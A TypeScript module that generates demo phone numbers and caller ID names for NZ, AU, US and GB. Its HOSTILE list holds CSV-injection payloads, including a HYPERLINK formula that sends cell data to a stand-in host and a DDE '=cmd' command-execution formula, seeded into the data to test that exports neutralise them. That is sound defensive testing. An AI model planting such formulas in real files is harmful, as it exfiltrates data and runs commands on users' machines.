import type { Prng } from './prng.js';

/** Countries the demo data dials, keyed by ISO code. */
export type DemoCountry = 'NZ' | 'AU' | 'US' | 'GB';

/** A block of real numbering: E.164 digits (no '+') that start a number, how many random digits follow. */
interface Block {
  readonly prefix: string;
  readonly rest: number;
  /** Whether the next digit must be 2–9 (NANP exchange codes never start with 0 or 1). */
  readonly nanp?: boolean;
}

interface Plan {
  readonly cc: string;
  /** National trunk prefix used when a number is written nationally ('' in NANP). */
  readonly trunk: string;
  readonly landline: readonly Block[];
  readonly mobile: readonly Block[];
}

// Real area codes and mobile prefixes, so the zone table (libphonenumber geocoding) finds regions
// for them: NZ 3 412 is Balclutha, 9 Auckland, 4 Wellington, 3 3 Christchurch; AU 2 Sydney,
// 3 Melbourne, 7 Brisbane, 8 Perth; US 212 New York, 415 San Francisco, 617 Boston, 312 Chicago;
// GB 20 London, 161 Manchester, 131 Edinburgh, 117 Bristol.
const PLANS: Record<DemoCountry, Plan> = {
  NZ: {
    cc: '64',
    trunk: '0',
    landline: [
      { prefix: '643412', rest: 4 },
      { prefix: '6493', rest: 6 },
      { prefix: '6494', rest: 6 },
      { prefix: '6433', rest: 6 },
      { prefix: '6478', rest: 6 },
    ],
    mobile: [
      { prefix: '6421', rest: 7 },
      { prefix: '6422', rest: 7 },
      { prefix: '6427', rest: 7 },
    ],
  },
  AU: {
    cc: '61',
    trunk: '0',
    landline: [
      { prefix: '6129', rest: 7 },
      { prefix: '6138', rest: 7 },
      { prefix: '6173', rest: 7 },
      { prefix: '6189', rest: 7 },
    ],
    mobile: [
      { prefix: '6140', rest: 7 },
      { prefix: '6141', rest: 7 },
      { prefix: '6143', rest: 7 },
      { prefix: '6147', rest: 7 },
    ],
  },
  US: {
    cc: '1',
    trunk: '',
    landline: [
      { prefix: '1212', rest: 7, nanp: true },
      { prefix: '1415', rest: 7, nanp: true },
      { prefix: '1617', rest: 7, nanp: true },
      { prefix: '1312', rest: 7, nanp: true },
    ],
    // NANP mobiles share area codes with landlines; these are just more of the same.
    mobile: [
      { prefix: '1646', rest: 7, nanp: true },
      { prefix: '1917', rest: 7, nanp: true },
    ],
  },
  GB: {
    cc: '44',
    trunk: '0',
    landline: [
      { prefix: '44207', rest: 7 },
      { prefix: '44208', rest: 7 },
      { prefix: '44161', rest: 7 },
      { prefix: '44131', rest: 7 },
      { prefix: '44117', rest: 7 },
    ],
    mobile: [
      { prefix: '4477', rest: 8 },
      { prefix: '4478', rest: 8 },
      { prefix: '4479', rest: 8 },
    ],
  },
};

export const DEMO_COUNTRIES: readonly DemoCountry[] = ['NZ', 'AU', 'US', 'GB'];

/** A random E.164 number ('+' and digits) in a country; about 40 % are mobiles. */
export function e164(rng: Prng, country: DemoCountry): string {
  const plan = PLANS[country];
  const block = rng.pick(rng.chance(0.4) ? plan.mobile : plan.landline);
  if (block.nanp) {
    let exchange = rng.range(200, 999);
    if (exchange === 555) exchange = 556; // 555 reads as fictional
    return `+${block.prefix}${exchange}${rng.digits(block.rest - 3)}`;
  }
  return `+${block.prefix}${rng.digits(block.rest)}`;
}

/** The same number as a person would dial it at home: national form ('03 412 …' → '034121234'). */
export function nationalForm(number: string, country: DemoCountry): string {
  const plan = PLANS[country];
  return plan.trunk + number.slice(1 + plan.cc.length);
}

/** The international-access form used by some PBXs: '+64…' → '0064…'. */
export function zeroZeroForm(number: string): string {
  return `00${number.slice(1)}`;
}

const FIRST = [
  'Aroha',
  'Mere',
  'Tama',
  'Wiremu',
  'Olivia',
  'Jack',
  'Charlotte',
  'Noah',
  'Isla',
  'Liam',
  'Amelia',
  'Oliver',
  'Mia',
  'James',
  'Emily',
  'William',
  'Sophie',
  'Thomas',
  'Grace',
  'Harry',
  'Zoë',
  'José',
  'Søren',
  'Chloé',
  'Jürgen',
  'Nguyễn',
  'Siobhán',
  'Mārama',
  'Tūī',
  'Priya',
  'Wei',
  'Aiko',
];
const LAST = [
  'Smith',
  'Williams',
  'Brown',
  'Wilson',
  'Taylor',
  'Jones',
  'Ngata',
  'Parata',
  'Tipene',
  'Walker',
  'Martin',
  'Anderson',
  'Thompson',
  'White',
  'Clarke',
  'Müller',
  'Ó Briain',
  'García',
  'Kowalski',
  'Nakamura',
  'Li',
  'Patel',
  'Singh',
  'Đặng',
  'Ngāti',
  "Fa'amausili",
];
const BUSINESS = [
  'Balclutha Vet Clinic',
  'Clutha Motors',
  'Harbour Dental',
  'Acme Plumbing Ltd',
  'City Council',
  'Bondi Físio',
  'Brooklyn Deli',
  'Mission Bay Café',
  'Camden Lock Ltd',
  'Manchester Tyres',
  '株式会社テスト',
  'Москва Трейд',
  'Ōtepoti Books',
  'Smith & Sons',
  'O\'Brien "The Builder"',
];
// Names a spreadsheet would run as formulas when a CSV export opens (CSV injection), plus
// separators and quotes: the export must neutralise and quote them, so the demo data carries a few.
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  '=1+2',
  '+64 3 412 0000',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  'Comma, Inc.',
  'Line\nBreak',
  'Tab\tName',
];

/** A person's name, sometimes with diacritics or non-Latin script. */
export function personName(rng: Prng): string {
  return `${rng.pick(FIRST)} ${rng.pick(LAST)}`;
}

/** What a caller ID name from outside looks like: a person, a business, the number, a placeholder, or (rarely) hostile. */
export function externalCallerName(rng: Prng, number: string, country: DemoCountry): string {
  const r = rng.float();
  if (r < 0.004) return rng.pick(HOSTILE);
  if (r < 0.3) return personName(rng).toUpperCase(); // carrier CNAM is often upper case
  if (r < 0.5) return rng.pick(BUSINESS);
  if (r < 0.85) return nationalForm(number, country);
  if (r < 0.95) return number;
  return rng.chance(0.5) ? 'Anonymous' : 'UNKNOWN';
}
